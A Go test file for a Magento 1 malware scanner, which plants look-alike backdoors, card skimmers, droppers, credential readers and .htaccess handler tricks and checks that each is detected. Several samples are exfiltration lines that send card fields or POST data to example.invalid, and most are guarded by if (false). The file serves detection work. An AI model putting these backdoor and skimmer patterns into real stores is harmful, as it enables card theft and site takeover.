package m1audit

import (
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// The planted set: one harmless look-alike per way attackers hide code in
// a Magento 1 store, written for these tests from public descriptions of
// the techniques (no sample is copied from a corpus). Every payload is
// guarded by if (false), points at example.invalid or only has the shape
// of the real thing. Each is planted into a stock-shaped tree and must be
// reported with a severity that makes the audit call the store
// compromised (critical or high) and a rule id naming what was seen.

type planted struct {
	kind, path, content string
	wantID              string // SignatureID or CheckID prefix expected
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func deflate(s string) string {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, 9)
	w.Write([]byte(s))
	w.Close()
	return buf.String()
}

func charCodes(s string) string {
	var parts []string
	for _, r := range s {
		parts = append(parts, fmt.Sprint(int(r)))
	}
	return strings.Join(parts, ",")
}

func hexEscaped(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\x%02x`, c)
	}
	return b.String()
}

func uEscaped(s string) string {
	var b strings.Builder
	for _, c := range s {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

func percentAll(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02x", c)
	}
	return b.String()
}

const loaderJS = "var s=document.createElement('script');s.src='https://example.invalid/l.js';document.head.appendChild(s);"

func plantedSet() []planted {
	const loc = "app/code/local/Vendor/Module/"
	packed := b64(string(rot13([]byte(b64(deflate("if (false) { system($_GET['c']); }"))))))
	return []planted{
		// Backdoors in app/code/local.
		{"php_backdoor", loc + "Model/Cb1.php", phpHead + "$k = array('x' => 1);\nif (false) { array_intersect_ukey($k, $k, \"ass\".\"ert\"); }\n", "heur.php.assembled_exec_name"},
		{"php_backdoor", loc + "Model/Cb2.php", phpHead + "$f = 'as' . 'se' . 'rt';\nif (false) { array_walk($a, $f); }\n", "heur.php.assembled_exec_name"},
		{"php_backdoor", loc + "Model/Cb3.php", phpHead + "if (false) { register_shutdown_function(str_rot13('nffreg'), $x); }\n", "heur.php.decoded_exec_name"},
		{"php_backdoor", loc + "Model/Cb4.php", phpHead + "if (false) { usort($a, strrev('tressa')); }\n", "heur.php.decoded_exec_name"},
		{"php_backdoor", loc + "Model/Cb5.php", phpHead + "$n = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\nif (false) { array_map($n, $a); }\n", "heur.php.assembled_exec_name"},
		{"php_backdoor", loc + "Model/Rq1.php", phpHead + "if (false) { $_GET['a']($_POST['b']); }\n", "php.call_request"},
		{"php_backdoor", loc + "Model/Rq2.php", phpHead + "$f = $_REQUEST['f'];\nif (false) { $f($_REQUEST['c']); }\n", "heur.php.request_called"},
		{"php_backdoor", loc + "Model/Rq3.php", phpHead + "$c = base64_decode($_COOKIE['c']);\nif (false) { eval($c); }\n", "heur.php.request_to_exec"},
		{"php_backdoor", loc + "Model/Dec1.php", phpHead + "if (false) { eval(gzinflate(base64_decode(str_rot13(base64_decode('" + packed + "'))))); }\n", "heur.php.eval_decoded"},
		{"php_backdoor", loc + "Model/Dec2.php", phpHead + "$p = '" + hex.EncodeToString([]byte("if (false) { passthru($_REQUEST['x']); }")) + "';\nif (false) { eval(hex2bin($p)); }\n", "heur.php.eval_decoded"},
		{"php_backdoor", loc + "Model/Hex.php", phpHead + "if (false) { \"" + hexEscaped("assert") + "\"($_POST['x']); }\n", "heur.php.assembled_exec_name"},
		{"php_backdoor", loc + "Model/Cf.php", phpHead + "$cf = 'create_' . 'function';\nif (false) { $g = $cf('', $body); }\n", "heur.php.assembled_exec_name"},
		{"php_backdoor", loc + "Model/Pr.php", phpHead + "if (false) { preg_replace('/.*/e', '\\\\0', $_REQUEST['q']); }\n", "php.preg_replace_e_request"},
		{"php_backdoor", loc + "Model/Brace.php", phpHead + "if (false) { ${'_POST'}['f']($x); }\n", "php.request_called_braces"},
		// Names spelled one character at a time from a scrambled literal.
		{"php_backdoor", loc + "Model/Ci1.php", phpHead + "$k = \"tsp_o\";\n$g = strtoupper($k[3].$k[2].$k[4].$k[1].$k[0]);\nif (false) { echo ${$g}['x']; }\n", "heur.php.char_index_superglobal"},
		{"php_backdoor", loc + "Model/Ci2.php", phpHead + "$k = 'trsae';\n$f = $k{3}.$k{2}.$k{2}.$k{4}.$k{1}.$k{0};\nif (false) { $f($x); }\n", "heur.php.char_index_exec"},
		{"php_backdoor", loc + "Model/Vv1.php", phpHead + "$n = 'look_alike';\nif (false) { eval(${$n}['c']); }\n", "php.eval_varvar_index"},
		{"php_backdoor", loc + "Model/Vv2.php", phpHead + "if (false) { ${\"" + hexEscaped("GLOBALS") + "\"}['k'] = 1; }\n", "php.varvar_escaped_name"},
		{"php_backdoor", loc + "Model/Gate.php", phpHead + "if (false && md5($_POST['k']) == '" + strings.Repeat("0f", 16) + "') { echo 'look-alike'; }\n", "php.md5_request_gate"},
		// Uploaders, droppers and database dumpers.
		{"php_tool", "media/up.php", phpHead + "if (false) { $f = $_FILES['f']; copy($f['tmp_name'], $f['name']); }\n", "php.upload_client_path"},
		{"php_tool", "app/code/local/Up2.php", phpHead + "if (false) { $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, $_POST['dir'] . '/x'); }\n", "php.upload_client_path"},
		{"php_tool", "app/code/local/Drop.php", phpHead + "if (false) { $c = file_get_contents('https://example.invalid/c.txt');\n$h = fopen('cache.php', 'w'); fwrite($h, $c); }\n", "php.remote_code_dropper"},
		{"php_tool", "app/code/local/Dump.php", phpHead + "if (false) { $db = new mysqli('localhost', 'u', 'p', 'd');\n$r = $db->query('SELECT additional_data FROM sales_flat_order_payment'); }\n", "php.standalone_db_dumper"},
		{"php_tool", "app/code/local/Creds.php", phpHead + "if (false) { $x = simplexml_load_file('app/etc/local.xml');\n$l = mysql_connect((string) $x->host, (string) $x->username, (string) $x->password); }\n", "php.local_xml_credentials"},
		{"php_backdoor", loc + "Model/Ar.php", phpHead + "$d = 'base' . (16*4) . '_de' . 'code';\nif (false) { echo $d('eA=='); }\n", "heur.php.disguised_decoder_name"},
		{"php_backdoor", loc + "Model/Ge.php", phpHead + "$GLOBALS['_4711_'] = Array(base64_decode('" + b64("look_alike") + "'));\n", "php.globals_encoded_names"},
		{"php_backdoor", loc + "Model/Sub.php", phpHead + "function d($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; }\n$f = 'base64_decode'; return $f($o); }\n", "php.substitution_decoder"},
		{"php_tool", "app/code/local/Up3.php", phpHead + "if (false) { $n = $_FILES['f']['name']; $d = $_POST['d'] . '/' . $n;\nmove_uploaded_file($_FILES['f']['tmp_name'], $d); }\n", "php.upload_named_by_client"},
		{"php_backdoor", loc + "Model/Ev1.php", phpHead + "if (false) { eval(base64_decode(" + strings.TrimRight(b64("echo 'look-alike, never run by these tests';"), "=") + ")); }\n", "php.eval_bareword_base64"},
		{"php_backdoor", loc + "Model/Ev2.php", phpHead + "if (false) { eval('?>' . gzinflate(base64_decode('" + b64(deflate("look-alike")) + "'))); }\n", "php.eval_close_tag_decoded"},
		{"php_stealer", loc + "Model/St1.php", phpHead + "if (false && $_POST) { $f = $_SERVER['DOCUMENT_ROOT'] . '/media/catalog/product/x/look.gif';\n$h = fopen($f, 'a'); fwrite($h, serialize($_POST)); }\n", "php.post_to_static_file"},
		{"php_stealer", loc + "Model/St2.php", phpHead + "$u = strrev('php.ekil-kool/dilavni.elpmaxe//:sptth');\n", "php.reversed_url"},
		{"php_stealer", loc + "Model/St3.php", phpHead + "if (false) { $g = file_get_contents('http://www.geoplugin.net/php.gp?ip=' . $ip);\nmail('x@example.invalid', 'r', $g); }\n", "php.geo_mailer"},
		{"php_stealer", loc + "Model/St4.php", phpHead + "if (false && count($_POST)) { $d = base64_encode(serialize($_POST));\nfile_get_contents('https://example.invalid/c.php?d=' . $d); }\n", "php.request_forwarded_encoded"},
		{"php_stealer", loc + "Model/Observer.php", phpHead + "class Look_Alike_Observer { public function placed($o) {\n$url = 'https://example.invalid/u.php';\n$order = $o->getEvent()->getOrder();\n$ch = curl_init($url); if (false) { curl_exec($ch); } } }\n", "php.order_posted_out"},
		{"handler_trick", "media/import/look.php", "<Files *look.jpg>\nForceType application/x-httpd-php\n</Files>\n", "any.htaccess_files_image_handler"},
		{"php_backdoor", loc + "Model/Xk.php", phpHead + "$p = base64_decode('" + b64("look-alike") + "');\nif (false) { $k = $_COOKIE['k']; $c = $p ^ str_repeat($k, 10); }\n", "php.cookie_keyed_xor"},
		{"php_backdoor", loc + "Model/Dc.php", phpHead + "function look_decrypt($s, $k) { return $s; }\nif (false) { eval(look_decrypt(base64_decode($s), 'k')); }\n", "php.eval_decrypted"},
		{"php_backdoor", loc + "Model/Rv.php", phpHead + "$d = strrev('esab') . '64_' . strrev('edoced');\n", "php.reversed_name_fragment"},
		{"php_backdoor", loc + "Model/Nv.php", phpHead + "$a = 'trim'; $b = 'trim'; $c = 'trim'; $d = 'trim';\nif (false) { $a($b($c($d($x)))); }\n", "php.nested_variable_calls"},
		{"php_backdoor", loc + "Model/Ci3.php", phpHead + "$k = '/.e*';\n$r = $k[0].$k[1].$k[3].$k[0].$k[2];\nif (false) { preg_replace($r, $x, ''); }\n", "heur.php.char_index_eval_regex"},
		{"php_backdoor", loc + "Model/En.php", phpHead + "$a = 'trim'; $b = 'trim';\nif (false) { eval($a($b($x))); }\n", "php.eval_nested_variable_calls"},
		{"php_tool", "app/code/local/So.php", phpHead + "if (false) { file_put_contents('./look-alike.so', $bin); }\n", "php.writes_shared_library"},
		{"php_tool", "app/code/local/Bot.php", phpHead + "if (false) { @system('killall -9 look-alike'); }\n", "php.bot_shell_commands"},
		{"php_backdoor", loc + "Model/Vd.php", phpHead + "$f = \"" + hexEscaped("base64_decode") + "\";\nif (false) { @eval($f('" + b64("if (false) { system($_GET['c']); }") + "')); }\n", "heur.php.eval_decoded"},
		{"php_backdoor", loc + "Model/If.php", phpHead + "$p = base64_decode('" + b64(deflate("echo 'look-alike';")) + "');\nif (false && ($p = @gzinflate($p))) { $f = create_function('', $p); $f(); }\n", "php.inflated_function"},
		{"php_backdoor", loc + "Model/Ua.php", phpHead + "$ua = strtolower($_SERVER[\"" + hexEscaped("HTTP_USER_AGENT") + "\"]);\n", "php.escaped_request_index"},
		{"php_tool", "app/code/local/Udp.php", phpHead + "$h = $_REQUEST['h'];\nif (false) { $fp = fsockopen('udp://' . $h, 9, $e, $s, 5); }\n", "php.request_udp_sender"},
		{"php_tool", "app/code/local/Creds2.php", phpHead + "$files = array('local.xml');\n/*" + strings.Repeat(" padding", 400) + " */\nif (false) { $l = mysqli_connect('h', 'u', 'p'); }\n", "php.local_xml_credentials"},
		{"php_backdoor", "app/code/local/db.php", phpHead + "/** look-alike of a single-file DB manager: @link https://www.adminer.org/ */\nclass Adminer { function name() { return 'look-alike'; } }\n", "php.adminer"},

		// Browser-side skimmers in JavaScript files.
		{"js_skimmer", "js/varien/x1.js", jsHead + "var f=[\"" + hexEscaped("cc_number") + "\",\"" + hexEscaped("cc_cid") + "\"];\n", "js.card_field_hex"},
		{"js_skimmer", "js/lib/x2.js", jsHead + "if(false){eval(decodeURIComponent('" + percentAll(loaderJS) + "'));}\n", "heur.js.uri_payload"},
		{"js_skimmer", "js/lib/x3.js", jsHead + "var u=atob('" + b64("https://example.invalid/s.js") + "');var s=document.createElement('script');s.src=u;\n", "js.atob_then_script"},
		{"js_skimmer", "js/mage/x4.js", jsHead + "var k=\"" + b64("https://example.invalid/g.js") + "\";\nfunction l(){return window.atob(k);}\n", "heur.js.base64_payload"},
		{"js_skimmer", "skin/frontend/base/default/js/x5.js", jsHead + "var u=String.fromCharCode(" + charCodes("https://example.invalid/c.js") + ");\n", "heur.js.charcode_payload"},
		{"js_skimmer", "skin/frontend/rwd/default/js/x6.js", jsHead + "function snd(){var d=document.getElementById('cc_number').value;\nnew Image().src='https://example.invalid/i.gif?d='+encodeURIComponent(d);}\n", "heur.js.card_exfil"},
		{"js_skimmer", "js/prototype/x7.js", jsHead + "function snd(){fetch('https://example.invalid/c',{method:'POST',body:jQuery('[name=\"payment[cc_number]\"]').val()});}\n", "heur.js.card_exfil"},
		{"js_skimmer", "js/varien/x8.js", jsHead + "var w=new WebSocket('wss://example.invalid/ws');\nfunction snd(){w.send(document.querySelector('#authorizenet_cc_number').value);}\n", "heur.js.card_exfil"},
		{"js_skimmer", "js/varien/x9.js", jsHead + "if(new RegExp('onepage|checkout|onestep').test(location.href)){ /* look-alike */ }\n", "js.checkout_page_list"},
		{"js_skimmer", "js/calendar/x10.js", jsHead + "function snd(){var x=new XMLHttpRequest();x.open('POST','//example.invalid/gate');\nx.send('c='+document.getElementById('cc_cid').value);}\n", "heur.js.card_exfil"},
		{"js_skimmer", "js/lib/x11.js", jsHead + "var n=\"" + uEscaped("cc_number") + "\";\n", "heur.js.encoded_skimmer_string"},
		{"js_skimmer", "js/lib/x12.js", jsHead + "function snd(){navigator.sendBeacon('https://example.invalid/b', localStorage.getItem('cardnumber'));}\n", "heur.js.card_exfil"},

		// Skimmers in templates and HTML.
		{"template_skimmer", "app/design/frontend/base/default/template/page/html/footer.phtml", "<div class=\"footer\"><?php echo $this->getCopyright() ?></div>\n<script>var u=atob('" + b64("https://example.invalid/f.js") + "');var s=document.createElement('script');s.src=u;document.body.appendChild(s);</script>\n", "js.atob_then_script"},
		{"template_skimmer", "app/design/frontend/rwd/default/template/checkout/onepage/payment.phtml", "<?php echo $this->getChildHtml('methods') ?>\n<script>\nfunction snd(){new Image().src='https://example.invalid/p.gif?n='+document.getElementById('cc_number').value;}\n</script>\n", "heur.js.card_exfil"},
		{"template_skimmer", "errors/default/page.html", "<html><body>\n<script>var f=\"" + hexEscaped("payment[cc_number]") + "\";</script>\n</body></html>\n", "js.card_field_hex"},
		{"template_skimmer", "app/design/frontend/base/default/template/page/html/head.phtml", "<?php echo $this->getCssJsHtml() ?>\n<script>var u=String.fromCharCode(" + charCodes("https://example.invalid/h.js") + ");</script>\n", "heur.js.charcode_payload"},
		{"template_skimmer", "skin/frontend/base/default/promo.html", "<p>look-alike</p>\n<script>function snd(){fetch('https://example.invalid/x',{method:'POST',body:document.getElementById('cc_number').value});}</script>\n", "heur.js.card_exfil"},
		{"template_skimmer", "app/design/frontend/base/default/template/page/js/cookie.phtml", "<script>if(false){eval(decodeURIComponent('" + percentAll(loaderJS) + "'));}</script>\n", "heur.js.uri_payload"},

		// Layout XML injecting a script through a core/text block.
		{"layout_xml", "app/design/frontend/base/default/layout/local.xml", "<?xml version=\"1.0\"?>\n<layout><default><reference name=\"before_body_end\"><block type=\"core/text\" name=\"x\"><action method=\"setText\"><text><![CDATA[<script>var u=atob(\"" + b64("https://example.invalid/x.js") + "\");var s=document.createElement(\"script\");s.src=u;</script>]]></text></action></block></reference></default></layout>\n", "js.atob_then_script"},

		// PHP-bearing files outside media/, skin/, js/.
		{"php_carrier", "errors/default/images/logo.gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00<?php if (false) { system($_GET['c']); } ?>", "m1.files.php_in_image"},
		{"php_carrier", "lib/Varien/Data/icon.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?php /* look-alike */ ?>", "m1.files.php_in_image"},
		{"php_carrier", "favicon_8e2c1a.ico", "<?php if (false) { eval($_POST['z']); } ?>\n", "m1.files.php_in_image"},
		{"php_carrier", "media/catalog/product/cache/x.txt", "<? if (false) { system($_GET['c']); } ?>\n", "file.php_in_non_php"},
		{"php_carrier", "skin/frontend/base/default/images/noext", "<? @eval($_POST['z']); ?>\n", "file.php_in_non_php"},

		// Handler tricks.
		{"handler_trick", "media/catalog/.htaccess", "<Files *.jpg>\nForceType application/x-httpd-php\n</Files>\n", "heur.htaccess.php_handler_on_files"},
		{"handler_trick", "skin/.htaccess", "AddHandler application/x-httpd-php .ico\n", "heur.htaccess.php_handler_on_ext"},
		{"handler_trick", "var/import/.htaccess", "SetHandler application/x-httpd-php\n", "heur.htaccess.php_handler_all"},
		{"handler_trick", ".user.ini", "auto_prepend_file = /var/www/html/media/favicon.ico\n", "heur.htaccess.prepend_hidden"},

		// Executable content in data directories.
		{"data_dir", "var/session/sess_3f1c", "<?php if (false) { system($_GET['c']); } ?>", "file.php_in_non_php"},
		{"data_dir", "var/cache/mage--1/mage---x.php", phpHead + "// look-alike\n", "m1.files.php_in_static"},
	}
}

// stockShaped writes the clean tree plus the stock constructs that
// misfired before: the /e regexes of stock PEAR Mail_mime (same shape,
// own text) and commercial-extension code with a licence check run through
// eval(base64_decode(...)).
func stockShaped(t *testing.T, root string) {
	t.Helper()
	cleanTree(t, root)
	licence := "$h = $_SERVER['HTTP_HOST']; if (md5($h . 'look-alike') != Mage::getStoreConfig('vendor_ext/license/key')) { Mage::throwException('Invalid licence for ' . $h); }"
	files := map[string]string{
		"lib/PEAR/Mail/mime.php": phpHead + "class Mail_mime {\n    function _encodeHeaders($hdr_value)\n    {\n" +
			"                    $hdr_value = preg_replace('#([\\x80-\\xFF])#e',\n                        '\"=\" . strtoupper(dechex(ord(\"\\1\")))',\n                        $hdr_value);\n        return $hdr_value;\n    }\n}\n",
		"lib/PEAR/Mail/mimeDecode.php": phpHead + "class Mail_mimeDecode {\n    function _quotedPrintableDecode($input)\n    {\n" +
			"\t\t$input = preg_replace('/=([a-f0-9]{2})/ie', \"chr(hexdec('\\\\1'))\", $input);\n        return $input;\n    }\n}\n",
		"lib/PEAR/Mail/mimePart.php": phpHead + "class Mail_mimePart {\n    function _buildHeaderParam($value)\n    {\n" +
			"            $encValue = preg_replace('#([\\x80-\\xFF])#e', '\"%\" . strtoupper(dechex(ord(\"\\1\")))', $encValue);\n        return $encValue;\n    }\n}\n",
		"app/code/community/Vendor/Ext/Helper/License.php": phpHead + "class Vendor_Ext_Helper_License extends Mage_Core_Helper_Abstract {\n    public function check()\n    {\n        eval(base64_decode('" + b64(licence) + "'));\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Observer.php": phpHead + "class Vendor_Ext_Model_Observer {\n    public function run($o)\n    {\n        $cb = array($this, '_sort');\n        usort($o, $cb);\n        return array_map('trim', $o);\n    }\n}\n",
		// Benign uses of the constructs the newer rules look for.
		"app/code/community/Vendor/Ext/Helper/Text.php":                   phpHead + "class Vendor_Ext_Helper_Text {\n    public function initials($first, $last)\n    {\n        $s = 'look-alike';\n        return $first[0] . $last[0] . $s[0] . $s[1];\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Upload.php":                  phpHead + "class Vendor_Ext_Model_Upload {\n    public function save($dir)\n    {\n        $u = new Varien_File_Uploader('file');\n        $u->setAllowedExtensions(array('csv'));\n        return $u->save($dir);\n    }\n    public function move()\n    {\n        move_uploaded_file($this->_file['tmp_name'], $this->_dest);\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Feed.php":                    phpHead + "class Vendor_Ext_Model_Feed {\n    public function fetch()\n    {\n        $x = file_get_contents('https://feed.example.invalid/news.xml');\n        file_put_contents(Mage::getBaseDir('var') . '/feed.xml', $x);\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Codec.php":                   phpHead + "class Vendor_Ext_Model_Codec {\n    public function decode($s)\n    {\n        return base64_decode(strtr($s, '-_', '+/'));\n    }\n    public function label()\n    {\n        return 'Page ' . (16 * 4) . ' of ' . 'many';\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Geo.php":                     phpHead + "class Vendor_Ext_Model_Geo {\n    public function country($ip)\n    {\n        $r = file_get_contents('https://ipinfo.io/' . urlencode($ip) . '/country');\n        return strrev(strrev(trim($r)));\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Notify.php":                  phpHead + "class Vendor_Ext_Model_Notify {\n    public function placed($o)\n    {\n        $order = $o->getEvent()->getOrder();\n        $ch = curl_init(Mage::getStoreConfig('vendor_ext/api/url'));\n        curl_setopt($ch, CURLOPT_POSTFIELDS, array('id' => $order->getIncrementId()));\n        curl_exec($ch);\n    }\n}\n",
		"app/code/community/Vendor/Ext/Helper/Mask.php":                   phpHead + "class Vendor_Ext_Helper_Mask {\n    public function mask($s, $k)\n    {\n        return base64_encode($s ^ str_repeat($k, strlen($s)));\n    }\n    public function palindrome($w)\n    {\n        return strrev($w) === $w;\n    }\n    public function apply($f, $g, $x)\n    {\n        return $f($g($x));\n    }\n}\n",
		"app/code/community/Vendor/Ext/Model/Shell.php":                   phpHead + "class Vendor_Ext_Model_Shell {\n    public function reindex()\n    {\n        exec('php shell/indexer.php reindexall', $out);\n        return preg_replace('/\\s+/', ' ', implode(' ', $out));\n    }\n    public function so($f)\n    {\n        return file_put_contents(Mage::getBaseDir('var') . '/export/so.csv', $f);\n    }\n}\n",
		"lib/Vendor/Statsd.php":                                           phpHead + "class Vendor_Statsd {\n    public function send($host, $m)\n    {\n        $fp = fsockopen('udp://' . $host, 8125);\n        fwrite($fp, $m);\n        return $_SERVER['HTTP_HOST'];\n    }\n}\n",
		"lib/Vendor/Db.php":                                               phpHead + "class Vendor_Db {\n    public function connect($cfg)\n    {\n        return new PDO($cfg['dsn'], $cfg['user'], $cfg['pass']);\n    }\n    public function hash($p)\n    {\n        return md5($_SERVER['HTTP_HOST'] . $p);\n    }\n}\n",
		"js/vendor/ext/widget.js":                                         "(function(){var cfg={url:'https://api.example.invalid/widget'};\nfunction load(){var x=new XMLHttpRequest();x.open('GET',cfg.url);x.send();}\n})();\n",
		"app/design/frontend/base/default/template/payment/form/cc.phtml": "<input type=\"text\" id=\"<?php echo $_code ?>_cc_number\" name=\"payment[cc_number]\" />\n<a href=\"https://www.example.invalid/cvv-help\">What is this?</a>\n",
		"js/tinymce/langs/ru.js":                                          "tinyMCE.addI18n({ru:{common:{edit_confirm:\"\\u0412\\u044b \\u0445\\u043e\\u0442\\u0438\\u0442\\u0435 \\u0438\\u0441\\u043f\\u043e\\u043b\\u044c\\u0437\\u043e\\u0432\\u0430\\u0442\\u044c URL https://example.invalid?\"}}});\n",
		"media/.htaccess":                                                 "Options -ExecCGI\n<IfModule mod_php5.c>\nphp_flag engine 0\n</IfModule>\nAddHandler cgi-script .php .pl .py .jsp .asp .htm .shtml .sh .cgi\n",
		".htaccess":                                                       "DirectoryIndex index.php\n<FilesMatch \"\\.(php4|php5|php3|php2|php|phtml)$\">\nSetHandler application/x-lsphp73\n</FilesMatch>\nAddHandler application/x-httpd-ea-php73 .php .php7 .phtml\n<Files RELEASE_NOTES.txt>\n    order allow,deny\n    deny from all\n</Files>\n",
		"index.php.sample":                                                phpHead + "require 'app/Mage.php';\n",
		"RELEASE_NOTES.txt":                                               "==== 1.9.4.5 ====\n<?xml notes?>\n",
		"errors/design.xml":                                               "<?xml version=\"1.0\"?>\n<design><skin>default</skin></design>\n",
		"var/locks/index_1.lock":                                          "",
	}
	for p, c := range files {
		writeFile(t, filepath.Join(root, p), c)
	}
}

func TestStockShapedTreeHasNoCriticalOrHigh(t *testing.T) {
	root := t.TempDir()
	stockShaped(t, root)
	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	for _, f := range findings {
		if f.Severity == SeverityCritical || f.Severity == SeverityHigh {
			t.Errorf("false alarm on stock-shaped code: %+v", f)
		}
		got[f.Path] = append(got[f.Path], fmt.Sprintf("%s/%s/%s/%v", f.CheckID, f.SignatureID, f.Severity, f.NeedsPerson))
	}
	// The constructs are still visible, at the severity they deserve.
	want := map[string]string{
		"lib/PEAR/Mail/mime.php":                           "m1.files.info/php.preg_replace_e_const/info/false",
		"lib/PEAR/Mail/mimeDecode.php":                     "m1.files.info/php.preg_replace_e_const/info/false",
		"lib/PEAR/Mail/mimePart.php":                       "m1.files.info/php.preg_replace_e_const/info/false",
		"app/code/community/Vendor/Ext/Helper/License.php": "m1.files.signature/heur.php.eval_encoded/medium/true",
		"app/code/community/Vendor/Ext/Helper/Text.php":    "m1.files.signature/php.char_index_assembly/medium/true",
	}
	for p, w := range want {
		if strings.Join(got[p], ",") != w {
			t.Errorf("%s: findings %v, want [%s]", p, got[p], w)
		}
		delete(got, p)
	}
	for p, fs := range got {
		t.Errorf("unexpected findings on stock-shaped %s: %v", p, fs)
	}
}

// TestPlantedSamplesDetected plants every sample into one stock-shaped
// tree and requires each to be reported at critical or high with the
// expected rule, printing detection per kind (go test -v).
func TestPlantedSamplesDetected(t *testing.T) {
	root := t.TempDir()
	stockShaped(t, root)
	set := plantedSet()
	for _, p := range set {
		writeFile(t, filepath.Join(root, p.path), p.content)
	}
	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	byPath := map[string][]Finding{}
	for _, f := range findings {
		byPath[f.Path] = append(byPath[f.Path], f)
	}
	total, found := map[string]int{}, map[string]int{}
	for _, p := range set {
		total[p.kind]++
		ok := false
		for _, f := range byPath[p.path] {
			if (f.SignatureID == p.wantID || f.CheckID == p.wantID) && (f.Severity == SeverityCritical || f.Severity == SeverityHigh) && !f.NeedsPerson {
				ok = true
			}
		}
		if ok {
			found[p.kind]++
		} else {
			t.Errorf("%s %s: want %s at critical/high, got %+v", p.kind, p.path, p.wantID, byPath[p.path])
		}
		delete(byPath, p.path)
	}
	for p, fs := range byPath {
		for _, f := range fs {
			if f.Severity == SeverityCritical || f.Severity == SeverityHigh {
				t.Errorf("false alarm on stock-shaped %s: %+v", p, f)
			}
		}
	}
	var kinds []string
	for k := range total {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	for _, k := range kinds {
		t.Logf("detection %-16s %2d/%2d", k, found[k], total[k])
	}
}

// TestScanContentDecodesSkimmers: database content (CMS blocks, design
// head/footer) gets the same browser-side rules and heuristics as files.
func TestScanContentDecodesSkimmers(t *testing.T) {
	sigs := shipped(t)
	html := []byte("<p>Free shipping</p><script>var n=\"" + uEscaped("cc_number") + "\";</script>")
	fs := sigs.ScanContent("cms_block[footer]", html, ScopeHTML)
	if len(fs) == 0 || fs[0].SignatureID != "heur.js.encoded_skimmer_string" || fs[0].CheckID != CheckContentSignature || fs[0].Path != "cms_block[footer]" {
		t.Fatalf("findings %+v", fs)
	}
	if fs := sigs.ScanContent("cms_block[ok]", []byte("<p>"+url.QueryEscape("a b")+"</p>"), ScopeHTML); len(fs) != 0 {
		t.Fatalf("clean content: %+v", fs)
	}
}
